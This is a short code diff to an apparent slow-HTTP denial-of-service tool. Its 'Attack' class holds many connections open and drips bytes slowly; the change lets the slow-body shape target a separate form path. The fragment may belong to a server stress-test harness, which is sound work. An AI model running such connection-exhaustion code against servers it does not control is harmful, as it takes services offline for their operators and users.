@@ -94,8 +94,11 @@ def connected(address: str) -> tuple[socket.socket, str | tuple[str, int]]:
 class Attack:
     """So many clients at once, dealt out to the shapes in turn."""
 
-    def __init__(self, address: str, path: str, shapes: list[str], connections: int) -> None:
+    def __init__(
+        self, address: str, path: str, shapes: list[str], connections: int, form_path: str = ""
+    ) -> None:
         self.address, self.path, self.shapes, self.connections = address, path, shapes, connections
+        self.form_path = form_path or path
         self.opened = self.held = self.refused = 0
 
     async def run(self, begun: Callable[[], None]) -> None:
@@ -136,7 +139,7 @@ class Attack:
             self.opened += 1
             self.held += 1
             try:
-                for bytes_sent in shape(self.path):
+                for bytes_sent in shape(self.form_path if shape is body else self.path):
                     with contextlib.suppress(BlockingIOError):
                         client.send(bytes_sent)
                     await asyncio.sleep(_DRIP_SECONDS)
